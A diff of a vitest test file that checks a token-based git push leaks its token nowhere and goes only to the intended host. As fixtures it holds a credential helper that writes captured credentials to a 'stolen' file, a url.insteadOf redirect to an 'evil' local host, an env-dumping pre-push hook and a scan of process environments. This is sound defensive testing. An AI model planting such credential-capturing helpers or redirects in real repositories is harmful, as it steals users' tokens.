@@ -1,79 +1,44 @@
 // A branch is pushed with the token that its owner gave for the host, where git has no way in of its own: to that host alone,
 // past whatever the repository's settings say, and without a trace of the token anywhere.
-import { execFileSync } from 'node:child_process'
-import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
-import { tmpdir } from 'node:os'
+import { existsSync, readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { afterAll, beforeAll, expect, it } from 'vitest'
-import { startGithub, type FakeGithub } from '../../support/hosting/github.ts'
+import {
+  allProcesses,
+  startOtherHost,
+  startTokenHost,
+  token,
+  type TokenHost,
+} from '../../support/hosting/token-host.ts'
 import { prompt } from '../../support/scripts.ts'
-import { filesWith } from '../../support/secrets/files-with.ts'
-import { startTestServer, type TestServer } from '../../support/server.ts'
-import { madeCertificate, startHttpsGit, type HttpsGit } from '../../support/skills/https-git.ts'
+import type { TestServer } from '../../support/server.ts'
 import { rest } from '../../support/threads.ts'
 
-const token = 'ghp_0123456789SECRETabcdef'
-
-const name = 'git.acme.example'
-
-let outside: string
+let host: TokenHost
 let server: TestServer
-let github: FakeGithub
-let host: HttpsGit
-/** Done before a request that bears the token is answered. */
-let meanwhile: () => void = () => undefined
-/** Of the host, as its certificate calls it. */
+let outside: string
 let address: string
+let git: TokenHost['git']
 let repository: string
-let projectId: string
 let id: string
 let tree: string
 let branch: string
 
 beforeAll(async () => {
-  outside = mkdtempSync(join(tmpdir(), 'a-parallel-token-'))
-  const certificate = madeCertificate(outside, name)
-  const held = () => Promise.resolve().then(() => meanwhile())
-  host = await startHttpsGit(outside, certificate, { login: `ana:${token}`, held })
-  github = await startGithub()
-  github.tokens.set(token, { login: 'ana', scopes: ['repo'] })
-  server = await startTestServer({
-    env: {
-      GIT_SSL_CAINFO: certificate,
-      A_PARALLEL_GITHUB_APIS: `${name}=${github.origin}`,
-    },
-  })
-  // What keeps passwords is told of whatever git was let in with.
-  const keeper = join(outside, 'keeper')
-  writeFileSync(keeper, `#!/bin/sh\necho "$1" >> '${outside}/kept'\ncat >> '${outside}/kept'\n`, {
-    mode: 0o755,
-  })
-  const { port } = new URL(host.origin)
-  address = `https://${name}:${port}`
-  writeFileSync(
-    join(server.environment.HOME ?? '', '.gitconfig'),
-    `[user]\n\tname = Ada\n\temail = ada@example.test\n[credential]\n\thelper = ${keeper}
-[http]\n\tcurloptResolve = ${name}:${port}:127.0.0.1\n`,
-  )
+  host = await startTokenHost()
+  ;({ server, outside, address, git } = host)
   repository = server.repository('shop', { 'a.txt': 'one\n' })
   git(outside, 'init', '-q', '--bare', '-b', 'main', 'shop.git')
   git(join(outside, 'shop.git'), 'config', 'http.receivepack', 'true')
   git(repository, 'remote', 'add', 'origin', `${address}/shop.git`)
-  projectId = await server.addProject(repository)
+  const projectId = await server.addProject(repository)
   id = await server.thread({ projectId, prompt: prompt('Hello', 'Hi.') })
   const thread = await rest(server, id)
   tree = thread.worktreePath ?? ''
   branch = thread.branch ?? ''
 })
-afterAll(async () => {
-  await server?.close()
-  await host?.close()
-  await github?.close()
-  rmSync(outside, { recursive: true, force: true })
-})
+afterAll(() => host?.close())
 
-const git = (cwd: string, ...args: string[]) =>
-  execFileSync('git', args, { cwd, encoding: 'utf8', stdio: 'pipe' }).trim()
 const push = () => server.api('POST', `/api/threads/${id}/push`, {})
 const there = () => git(join(outside, 'shop.git'), 'rev-parse', branch)
 
@@ -84,21 +49,6 @@ function commit(name: string): string {
   return git(tree, 'rev-parse', 'HEAD')
 }
 
-/** How each process was called, and with which variables. */
-function allProcesses(): string {
-  return readdirSync('/proc')
-    .filter((name) => /^\d+$/.test(name))
-    .flatMap((pid) => ['cmdline', 'environ'].map((file) => `/proc/${pid}/${file}`))
-    .map((path) => {
-      try {
-        return readFileSync(path, 'latin1')
-      } catch {
-        return '' // It has ended.
-      }
-    })
-    .join('\n')
-}
-
 it('is refused where there is no token, and says where to give one', async () => {
   commit('one')
   const { body } = await push()
@@ -107,12 +57,11 @@ it('is refused where there is no token, and says where to give one', async () =>
 })
 
 it('goes with the token, which stands nowhere while it does and afterwards [linux]', async () => {
-  const added = await server.api('POST', '/api/host-accounts', { host: name, token })
-  expect(added.status).toBeLessThan(300)
+  await host.giveToken()
   const hook = join(repository, '.git', 'hooks', 'pre-push')
   writeFileSync(hook, `#!/bin/sh\nenv > '${outside}/hook'\n`, { mode: 0o755 })
   let seen = ''
-  meanwhile = () => (seen += allProcesses())
+  host.meanwhile = () => void (seen += allProcesses())
   const head = git(tree, 'rev-parse', 'HEAD')
   const { status, body } = await push()
   expect([status, body]).toMatchObject([
@@ -123,22 +72,15 @@ it('goes with the token, which stands nowhere while it does and afterwards [linu
   expect(seen).toContain('shop.git')
   expect(seen).not.toContain(token)
   expect(existsSync(join(outside, 'hook'))).toBe(false)
-  expect(readFileSync(join(outside, 'kept'), 'utf8')).not.toMatch(/store|erase|SECRET/)
-  for (const folder of [server.home, repository, tree]) expect(filesWith(folder, token)).toEqual([])
-  expect(readdirSync(tmpdir()).filter((name) => name.startsWith('a-parallel-push-'))).toEqual([])
+  expect(host.shown(repository, tree)).toEqual([])
   // As git notes it of a push of its own.
   expect(git(tree, 'rev-parse', '@{upstream}')).toBe(head)
   expect(git(tree, 'rev-parse', '--abbrev-ref', '@{upstream}')).toBe(`origin/${branch}`)
-  meanwhile = () => undefined
+  host.meanwhile = () => undefined
 })
 
 it('goes nowhere else, whatever an agent wrote into the repository’s settings', async () => {
-  let told = 0
-  const evil = await startHttpsGit(outside, join(outside, 'https.pem'), {
-    login: 'nobody:at-all',
-    held: () => Promise.resolve(void (told += 1)),
-  })
-  const evilAddress = evil.origin.replace('localhost', '127.0.0.1')
+  const evil = await startOtherHost(host)
   const thief = `!f() { echo "$1" >> '${outside}/stolen'; cat >> '${outside}/stolen'; }; f`
   const head = commit('two')
   for (const [key, value] of [
@@ -149,14 +91,14 @@ it('goes nowhere else, whatever an agent wrote into the repository’s settings'
     git(repository, 'config', key, value)
   expect((await push()).body.login).toBe('ana')
   expect(there()).toBe(head)
-  git(repository, 'config', `url.${evilAddress}/.insteadOf`, `${address}/`)
+  git(repository, 'config', `url.${evil.address}/.insteadOf`, `${address}/`)
   commit('three')
   const { body } = await push()
   expect([body.code, body.values?.reason]).toEqual(['push_refused', 'signed-out'])
-  expect([there(), told]).toEqual([head, 0])
+  expect([there(), evil.told.filter(Boolean)]).toEqual([head, []])
   const stolen = existsSync(join(outside, 'stolen')) ? readFileSync(join(outside, 'stolen')) : ''
   expect(String(stolen)).not.toContain('SECRET')
-  git(repository, 'config', '--unset', `url.${evilAddress}/.insteadOf`)
+  git(repository, 'config', '--unset', `url.${evil.address}/.insteadOf`)
   await evil.close()
 })
 
@@ -164,7 +106,8 @@ it('tells of what somebody else pushed, and overwrites that alone on a word', as
   const other = git(repository, 'commit-tree', '-m', 'theirs', `${there()}^{tree}`, '-p', there())
   git(repository, 'push', '-q', join(outside, 'shop.git'), `${other}:refs/heads/${branch}`)
   const refused = await push()
-  expect(refused.body.values?.reason).toBe('behind')
+  // What lies there was fetched with the token as well.
+  expect(refused.body.values).toMatchObject({ reason: 'behind', there: other, ahead: 1 })
   const over = (commit: string) => server.api('POST', `/api/threads/${id}/push`, { over: commit })
   expect((await over('0'.repeat(40))).body.values?.reason).toBe('stale')
   expect((await over(other)).body.login).toBe('ana')
